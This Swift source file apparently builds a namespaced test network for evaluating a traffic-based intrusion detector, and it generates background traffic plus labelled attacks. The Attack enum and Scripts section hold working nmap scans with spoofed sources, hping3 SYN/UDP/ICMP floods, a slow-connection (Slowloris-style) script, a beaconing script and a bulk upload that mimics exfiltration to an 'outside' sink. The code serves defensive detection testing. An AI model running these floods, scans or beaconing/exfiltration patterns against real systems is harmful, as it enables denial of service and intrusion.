public import Foundation

/// A small network of test hosts for detection runs: clients and an
/// attacker share one namespace (each with its own address), servers and an
/// "outside" host share another, and one veth pair joins them. A sensor on
/// the servers' side of the pair sees every packet exactly once.
///
/// Addresses (all in 198.18.0.0/15):
/// - clients 198.18.0.11–13, attacker 198.18.0.66 (namespace `clients`)
/// - server 198.18.0.2 (HTTP on 80, DNS-style UDP on 53), outside host
///   198.18.0.100 (sink on 443 and 8443) (namespace `servers`)
/// - 198.18.2.0/24 is routed to the servers' namespace, which drops it: a
///   target range for sweeps whose probes the sensor still sees.
public final class TrafficLab: Sendable {
    public let lab: NetworkLab
    public let clientsNamespace: String
    public let serversNamespace: String
    /// The servers' end of the veth pair: where the sensor attaches.
    public let sensorInterface: String
    public let clientInterface: String
    public let clients = ["198.18.0.11", "198.18.0.12", "198.18.0.13"]
    public let attacker = "198.18.0.66"
    public let server = "198.18.0.2"
    public let outside = "198.18.0.100"
    public let sweepRange = "198.18.2.0/24"
    private let workDirectory: URL

    public init(workDirectory: URL) throws {
        lab = try NetworkLab()
        self.workDirectory = workDirectory
        clientsNamespace = try lab.addNamespace("clients")
        serversNamespace = try lab.addNamespace("servers")
        (clientInterface, sensorInterface) = try lab.connect(clientsNamespace, address: "198.18.0.11/24", serversNamespace, address: "198.18.0.2/24")
        for address in clients.dropFirst() + [attacker] {
            try Command.check(["ip", "-n", clientsNamespace, "addr", "add", "\(address)/24", "dev", clientInterface])
        }
        try Command.check(["ip", "-n", serversNamespace, "addr", "add", "\(outside)/24", "dev", sensorInterface])
        try Command.check(["ip", "-n", clientsNamespace, "route", "add", sweepRange, "via", server])
        // Sweep probes arrive at the servers' namespace and die there quietly.
        try Command.check(["ip", "-n", serversNamespace, "route", "add", "blackhole", sweepRange])
        try startServices()
    }

    public func teardown() { lab.teardown() }

    private func startServices() throws {
        let site = workDirectory.appendingPathComponent("site")
        try FileManager.default.createDirectory(at: site, withIntermediateDirectories: true)
        for (name, size) in [("index.html", 2_000), ("page.html", 15_000), ("app.js", 60_000), ("bulk.bin", 4_000_000)] {
            try Data(repeating: 0x41, count: size).write(to: site.appendingPathComponent(name))
        }
        _ = try lab.spawn(in: serversNamespace, ["python3", "-m", "http.server", "80", "--bind", server, "--directory", site.path])
        _ = try lab.spawn(in: serversNamespace, ["python3", "-c", Scripts.udpEcho(address: server, port: 53)])
        for port in [443, 8443] {
            _ = try lab.spawn(in: serversNamespace, ["python3", "-c", Scripts.tcpSink(address: outside, port: port)])
        }
        // Wait for the HTTP server to answer.
        let deadline = Date().addingTimeInterval(10)
        while Date() < deadline {
            if (try? lab.run(in: clientsNamespace, ["curl", "-s", "-o", "/dev/null", "--max-time", "1", "http://\(server)/index.html"], timeout: 3))?.status == 0 { return }
            Thread.sleep(forTimeInterval: 0.2)
        }
        throw LabError.failed(command: ["http.server"], status: -1, stderr: "the lab's HTTP server did not start")
    }

    /// Starts background normal traffic for `seconds`: web browsing from each
    /// client, DNS-style queries, occasional pings and bulk downloads.
    /// Returns the processes (they end by themselves).
    @discardableResult
    public func startNormalTraffic(seconds: Double, seed: Int = 1) throws -> [Process] {
        try clients.enumerated().map { index, client in
            try lab.spawn(in: clientsNamespace, ["python3", "-c", Scripts.normalClient(
                source: client, server: server, seconds: seconds, seed: seed * 100 + index)])
        }
    }

    /// Runs one attack to completion (each is bounded in packets and time).
    public func run(_ attack: Attack) throws {
        let result = try lab.run(in: clientsNamespace, attack.command(in: self), timeout: attack.timeLimit)
        if result.status != 0 && !result.timedOut && !attack.nonZeroExitIsNormal {
            throw LabError.failed(command: attack.command(in: self), status: result.status, stderr: result.stderr)
        }
    }
}

/// Attacks the evaluation runs, each with a real tool and a bounded size.
public enum Attack: String, CaseIterable, Sendable {
    case synScan = "port scan"
    case pingSweep = "host sweep"
    case synFlood = "syn flood"
    case udpFlood = "udp flood"
    case icmpFlood = "icmp flood"
    case slowConnections = "slow connections"
    case beaconing = "beaconing"
    case exfiltration = "exfiltration"

    /// The label the detector should give.
    public var expectedLabel: String { rawValue }

    var timeLimit: Double {
        switch self {
        case .beaconing: return 40
        case .slowConnections: return 30
        default: return 25
        }
    }

    var nonZeroExitIsNormal: Bool { self == .synFlood || self == .udpFlood || self == .icmpFlood }

    func command(in lab: TrafficLab) -> [String] {
        let a = lab.attacker
        switch self {
        case .synScan:
            return ["nmap", "-sS", "-Pn", "-n", "-S", a, "-e", lab.clientInterface, "-p", "1-1000", "-T4", "--max-retries", "1", lab.server]
        case .pingSweep:
            return ["nmap", "-sn", "-n", "--send-ip", "-S", a, "-e", lab.clientInterface, "-T4", "--max-retries", "0", lab.sweepRange]
        case .synFlood:
            return ["timeout", "-k", "2", "10", "hping3", "-S", "-p", "80", "-a", a, "-c", "30000", "-i", "u100", "-q", lab.server]
        case .udpFlood:
            return ["timeout", "-k", "2", "10", "hping3", "--udp", "-p", "53", "-a", a, "-d", "512", "-c", "30000", "-i", "u100", "-q", lab.server]
        case .icmpFlood:
            return ["timeout", "-k", "2", "10", "hping3", "--icmp", "-a", a, "-d", "512", "-c", "30000", "-i", "u100", "-q", lab.server]
        case .slowConnections:
            return ["python3", "-c", Scripts.slowConnections(source: a, server: lab.server, count: 150, seconds: 20)]
        case .beaconing:
            return ["python3", "-c", Scripts.beacon(source: a, target: lab.outside, port: 8443, interval: 0.5, count: 60)]
        case .exfiltration:
            return ["python3", "-c", Scripts.upload(source: a, target: lab.outside, port: 443, bytes: 200_000_000)]
        }
    }
}

/// Small Python programs the lab runs inside its namespaces.
enum Scripts {
    static func udpEcho(address: String, port: Int) -> String {
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("\(address)", \(port)))
        while True:
            d, peer = s.recvfrom(2048); s.sendto(d[:12] + b"\\x81\\x80" + d[14:] + b"\\x00" * 16, peer)
        """
    }

    static func tcpSink(address: String, port: Int) -> String {
        """
        import socket, threading
        l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("\(address)", \(port))); l.listen(256)
        def serve(c):
            try:
                while True:
                    d = c.recv(262144)
                    if not d: break
                    if len(d) < 200: c.sendall(b"ok\\n")
            except OSError: pass
            c.close()
        while True:
            c, _ = l.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
        """
    }

    static func normalClient(source: String, server: String, seconds: Double, seed: Int) -> String {
        """
        import random, socket, time, urllib.request, subprocess
        random.seed(\(seed)); end = time.time() + \(seconds)
        def get(path):
            s = socket.create_connection(("\(server)", 80), timeout=5, source_address=("\(source)", 0))
            s.sendall(("GET /%s HTTP/1.1\\r\\nHost: lab\\r\\nConnection: close\\r\\n\\r\\n" % path).encode())
            while s.recv(65536): pass
            s.close()
        while time.time() < end:
            r = random.random()
            try:
                if r < 0.55:
                    for p in random.sample(["index.html", "page.html", "app.js"], random.randint(1, 3)): get(p)
                elif r < 0.85:
                    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("\(source)", 0)); u.settimeout(1)
                    u.sendto(bytes([random.randrange(256), 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b"\\x07example\\x03lab\\x00\\x00\\x01\\x00\\x01", ("\(server)", 53)); u.recv(2048); u.close()
                elif r < 0.95:
                    subprocess.run(["ping", "-c", "2", "-i", "0.2", "-q", "-I", "\(source)", "\(server)"], stdout=subprocess.DEVNULL)
                else:
                    get("bulk.bin")
            except OSError: pass
            time.sleep(random.uniform(0.2, 1.2))
        """
    }

    static func slowConnections(source: String, server: String, count: Int, seconds: Double) -> String {
        """
        import socket, time
        conns = []
        for i in range(\(count)):
            try:
                s = socket.create_connection(("\(server)", 80), timeout=2, source_address=("\(source)", 0))
                s.sendall(b"GET / HTTP/1.1\\r\\nHost: lab\\r\\n"); conns.append(s)
            except OSError: pass
        end = time.time() + \(seconds)
        while time.time() < end:
            for s in conns:
                try: s.sendall(b"X-a: b\\r\\n")
                except OSError: pass
            time.sleep(2)
        """
    }

    static func beacon(source: String, target: String, port: Int, interval: Double, count: Int) -> String {
        """
        import socket, time
        for i in range(\(count)):
            try:
                s = socket.create_connection(("\(target)", \(port)), timeout=2, source_address=("\(source)", 0))
                s.sendall(b"beacon id=42 seq=%04d" % i); s.recv(16); s.close()
            except OSError: pass
            time.sleep(\(interval))
        """
    }

    static func upload(source: String, target: String, port: Int, bytes: Int) -> String {
        """
        import socket
        s = socket.create_connection(("\(target)", \(port)), timeout=5, source_address=("\(source)", 0))
        chunk = b"z" * 65536; left = \(bytes)
        while left > 0:
            n = min(left, len(chunk)); s.sendall(chunk[:n]); left -= n
        s.close()
        """
    }
}
